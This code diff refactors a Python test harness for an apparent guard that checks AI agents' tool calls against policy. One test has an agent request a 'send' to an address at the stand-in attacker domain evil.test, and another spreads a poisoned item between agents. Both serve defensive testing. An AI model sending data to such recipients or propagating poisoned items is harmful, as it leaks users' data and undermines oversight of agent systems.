@@ -11,7 +11,7 @@ import re
 import subprocess
 import sys
 import time
-from contextlib import asynccontextmanager
+from contextlib import aclosing
 from hashlib import sha256
 from signal import SIGTERM
 from uuid import uuid4
@@ -106,8 +106,6 @@ class Home:
             return self._serve(words)
         if words[0] == "init" and "--undo" not in words:
             self._configure_client()
-        if words[0] == "stdio":
-            return self._run(words)
         done = self._run(words)
         if "--remember" in words:
             # It is remembered once the call has gone out.
@@ -116,7 +114,7 @@ class Home:
             self.incident = re.search(r"inc-\w+", done)[0]
         return done
 
-    def ask(self):
+    def _ask(self):
         """Have a call wait for an answer; return its decision id."""
         self.recipient = f"{uuid4().hex}@evil.test"
         decision, verdict = self._send()
@@ -124,25 +122,24 @@ class Home:
         return decision
 
     def _send(self):
+        async def work(agent):
+            await agent.say("Tell everybody about it")
+            asked, verdict = await agent.ask("send", {"to": self.recipient, "body": "b"})
+            if verdict.enforced.forwards:
+                await agent.guard.observe(ToolResult(asked, "sent", agent.at))
+            return asked.call.id, verdict.enforced.label
+
+        return self.work(work)
+
+    def work(self, work):
+        """Return what an agent's work gives."""
+
         async def play():
-            async with self._agent() as agent:
-                await agent.say("Tell everybody about it")
-                arguments = {"to": self.recipient, "body": "b"}
-                asked, verdict = await agent.ask("send", arguments)
-                if verdict.enforced.forwards:
-                    await agent.guard.observe(ToolResult(asked, "sent", agent.at))
-                return asked.call.id, verdict.enforced.label
+            async with aclosing(RedisSessionStore.at(self.redis, timeout=60.0)) as store:
+                policy = load_policies([self.place / "policy.yaml"])
+                return await work(Agent(guard_on(store, policy), at=time.time()))
 
         return asyncio.run(play())
-
-    def poison(self):
-        """Have a poisoned item spread from one agent to the next."""
-
-        async def play():
-            async with self._agent() as agent:
-                await spread(agent)
-
-        asyncio.run(play())
 
     def _configure_client(self):
         """Write the configurations of clients: a server that is a command, and one at a URL."""
@@ -161,13 +158,6 @@ class Home:
         log = self.serving[-1][1]
         wait_until(lambda: "label store is empty" in log.said(), "the loss of the labels", SECONDS)
 
-    @asynccontextmanager
-    async def _agent(self):
-        store = RedisSessionStore.at(self.redis, timeout=60.0)
-        policy = load_policies([self.place / "policy.yaml"])
-        yield Agent(guard_on(store, policy), at=time.time())
-        await store.aclose()
-
     def _here(self, word):
         word = re.sub(r"^(unix:)?~/", rf"\g<1>{self.place}/", word)
         word = re.sub(r"/run/(user/1000/)?guard\b", str(self.place / "run"), word)
@@ -181,7 +171,7 @@ class Home:
 
     def _example(self, word):
         if word == "4f1c0b7a9d2e6f83":
-            return self.ask()
+            return self._ask()
         if word == "inc-167a8b312290":
             return self.incident
         if word == "MARK":
@@ -241,6 +231,7 @@ def test_commands_that_need_a_server_run(text, home):
     """Each line does what it says, in order, without an error."""
     lines = list(commands(text))
     if ["guard", "incident", "open"] in (line[:3] for line in lines):
-        home.poison()
+        # A poisoned item spreads from one agent to the next.
+        home.work(spread)
     for line in lines:
         home.play(line)
